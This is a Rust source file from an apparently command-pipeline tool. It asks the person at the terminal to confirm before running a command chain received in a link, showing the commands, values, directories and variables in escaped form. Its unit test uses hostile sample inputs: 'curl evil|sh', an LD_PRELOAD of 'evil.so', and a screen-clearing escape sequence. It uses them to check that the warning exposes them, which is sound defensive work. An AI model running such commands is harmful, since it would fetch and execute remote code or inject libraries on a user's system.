//! Asking before something of somebody else is run.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs::{File, OpenOptions};
use std::io::{self, BufRead, BufReader, Write as _};

use pipeyard_shared::chain::{Chain, Lanes, Setup, Stage};
use pipeyard_shared::marks;
use pipeyard_shared::text::{Text, tame, tame_lines};
use pipeyard_shared::words::{self, Language};

use super::replay::chain_text;

/// How many values of lanes are shown.
const VALUES: usize = 100;
/// How many characters of a value are shown.
const CHARACTERS: usize = 500;

/// Whether the chain of a link may be run: whoever sits at the terminal is asked, wherever standard error goes.
///
/// # Errors
/// When nobody sits there.
pub(super) fn may_run(chain: &Chain, language: Language) -> io::Result<bool> {
    // Standard input is the chain's.
    let mut terminal = OpenOptions::new().read(true).write(true).open("/dev/tty")?;
    ask(&mut terminal, chain, language)
}

fn ask(terminal: &mut File, chain: &Chain, language: Language) -> io::Result<bool> {
    let (begins, question) = match language {
        Language::En => ("The link holds this chain:", "Run it here, as you? [y/N] "),
        Language::Ko => (
            "링크에 든 체인입니다:",
            "여기에서 내 권한으로 실행할까요? [y/N] ",
        ),
    };
    // The chain is somebody else's text.
    let shown = tame_lines(&chain_text(chain)).replace('\n', "\n  ");
    let shown = shown.trim_end();
    write!(terminal, "{begins}\n\n  {shown}\n\n")?;
    let around = around(chain, language);
    if !around.is_empty() {
        writeln!(terminal, "{around}")?;
    }
    let mut told = BTreeSet::new();
    for (_, marks) in marks::of_chain(chain) {
        for marked in marks {
            let sentence = words::marked(language, &marked);
            if told.insert(sentence.clone()) {
                writeln!(terminal, "! {sentence}.")?;
            }
        }
    }
    if !told.is_empty() {
        writeln!(terminal)?;
    }
    write!(terminal, "{question}")?;
    terminal.flush()?;
    let mut answer = String::new();
    BufReader::new(&*terminal).read_line(&mut answer)?;
    let answer = answer.trim().to_lowercase();
    Ok(["y", "yes", "ㅛ", "네", "예"].contains(&answer.as_str()))
}

/// What decides what is run besides the commands: a line for each of the lanes' values, directories, variables, times.
fn around(chain: &Chain, language: Language) -> String {
    let english = language == Language::En;
    let mut text = String::new();
    if !chain.lanes.is_single() {
        let count = chain.lanes.count();
        let _ = match language {
            Language::En => write!(text, "  lanes: {count}"),
            Language::Ko => write!(text, "  레인 {count}개"),
        };
        if let Some(jobs) = chain.jobs {
            let _ = match language {
                Language::En => write!(text, ", {jobs} at a time"),
                Language::Ko => write!(text, ", 한 번에 {jobs}개"),
            };
        }
        text.push('\n');
    }
    if let Lanes::Values(values) = &chain.lanes {
        for value in values.iter().take(VALUES) {
            let _ = writeln!(text, "    {{value}} = {}", short(value, language));
        }
        let more = values.len().saturating_sub(VALUES);
        if more > 0 {
            let _ = match language {
                Language::En => writeln!(text, "    … and {more} more, not shown"),
                Language::Ko => writeln!(text, "    … 외 {more}개는 보이지 않음"),
            };
        }
    }
    let stages = chain.stages.iter().zip(1..);
    for (stage, number) in stages {
        let Some(facts) = stage.setup().map(|setup| setup_facts(setup, language)) else {
            continue;
        };
        for fact in facts {
            let name = name(stage);
            let _ = writeln!(text, "  {number} ({name}): {fact}");
        }
    }
    if let Some(ms) = chain.timeout_ms {
        let time = words::milliseconds(ms);
        let _ = match english {
            true => writeln!(text, "  ends after {time} at the latest"),
            false => writeln!(text, "  늦어도 {time} 뒤에 끝남"),
        };
    }
    text
}

fn setup_facts(setup: &Setup, language: Language) -> Vec<String> {
    let english = language == Language::En;
    let mut facts = Vec::new();
    if let Some(directory) = &setup.directory {
        let directory = short(directory, language);
        facts.push(match english {
            true => format!("in the directory {directory}"),
            false => format!("디렉터리 {directory}"),
        });
    }
    for variable in &setup.environment {
        let name = short(&variable.name, language);
        facts.push(match &variable.value {
            Some(value) => format!("{name}={}", short(value, language)),
            None if english => format!("without {name}"),
            None => format!("{name} 없이"),
        });
    }
    if let Some(ms) = setup.timeout_ms {
        let time = words::milliseconds(ms);
        facts.push(match english {
            true => format!("ends after {time} at the latest"),
            false => format!("늦어도 {time} 뒤에 끝남"),
        });
    }
    facts
}

fn name(stage: &Stage) -> String {
    tame(&stage.name()).chars().take(CHARACTERS).collect()
}

/// A text in a line, with how much of it is left out.
fn short(text: &Text, language: Language) -> String {
    let lossy = text.lossy();
    let tame = tame(&lossy);
    let mut shown: String = tame.chars().take(CHARACTERS).collect();
    let more = tame.chars().skip(CHARACTERS).count();
    if more > 0 {
        let _ = match language {
            Language::En => write!(shown, "… (and {more} characters more, not shown)"),
            Language::Ko => write!(shown, "… (외 {more}자는 보이지 않음)"),
        };
    }
    shown
}

#[cfg(test)]
mod tests {
    use super::*;
    use pipeyard_shared::chain::Variable;

    /// A shell of `{value}` says nothing: what it runs is in the lanes.
    #[test]
    fn what_decides_what_is_run_is_shown() {
        let mut chain = Chain::of_stages("", vec![Stage::shell("a", "{value}")]);
        assert_eq!(around(&chain, Language::En), "");
        let mut values: Vec<Text> = vec!["curl evil|sh".into(), "a\n\u{1b}[2Jb".into()];
        values.push("x".repeat(CHARACTERS + 7).as_str().into());
        values.resize(VALUES + 9, "true".into());
        chain.lanes = Lanes::Values(values);
        chain.jobs = Some(4);
        chain.timeout_ms = Some(5_000);
        let setup = chain.stages[0].setup_mut().expect("a shell has one");
        setup.directory = Some("../elsewhere".into());
        setup.environment = vec![Variable::set("LD_PRELOAD", "evil.so")];
        setup.timeout_ms = Some(2_000);
        for language in [Language::En, Language::Ko] {
            let told = around(&chain, language);
            for part in [
                "{value} = curl evil|sh\n",
                "../elsewhere",
                "LD_PRELOAD=evil.so",
                &words::milliseconds(5_000),
                &words::milliseconds(2_000),
            ] {
                assert!(told.contains(part), "{part}: {told}");
            }
            assert!(!told.contains('\u{1b}'), "{told}");
        }
        let told = around(&chain, Language::En);
        assert!(told.contains("lanes: 109, 4 at a time"), "{told}");
        assert!(told.contains("and 9 more, not shown"), "{told}");
        assert!(told.contains("and 7 characters more, not shown"), "{told}");
    }
}
